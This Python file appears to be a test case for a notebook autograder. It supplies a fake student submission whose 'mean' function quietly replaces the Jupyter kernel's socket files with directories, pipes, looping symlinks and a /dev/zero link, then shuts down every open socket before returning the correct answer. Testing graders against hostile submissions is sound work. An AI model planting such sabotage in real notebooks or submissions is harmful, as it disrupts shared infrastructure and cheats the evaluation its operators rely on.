"""When mean is called, it puts folders, pipes, a device and links that lead in circles in the place of its sockets' files and cuts all connections, so that whoever connects again opens those."""

STOCK = "nothing"  # there its sockets are ports, and the cell fails in time
MARKS = {"test-double": 1.0, "test-mean": 0.0}

CODE = r"""
def mean(x):
    import glob, os, socket, stat
    import ipykernel, json
    where = json.load(open(ipykernel.get_connection_file()))
    if where["transport"] == "ipc":
        for n, path in enumerate(sorted(glob.glob(where["ip"] + "-*"))):
            os.rename(path, path + ".old")
            if n == 0: os.mkdir(path)
            elif n == 1: os.mkfifo(path)
            elif n == 2: os.symlink(path, path)
            elif n == 3: os.symlink("/dev/zero", path)
            else: open(path, "w").write("x" * 10**6)
    for fd in range(3, 256):
        try:
            if stat.S_ISSOCK(os.fstat(fd).st_mode):
                s = socket.socket(fileno=os.dup(fd))
                s.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
    return x.mean()
"""


def hand_in(folder, cells, notebook):
    cells["double"].source = "def double(x):\n    return 2 * x"
    cells["mean"].source = CODE
    return notebook
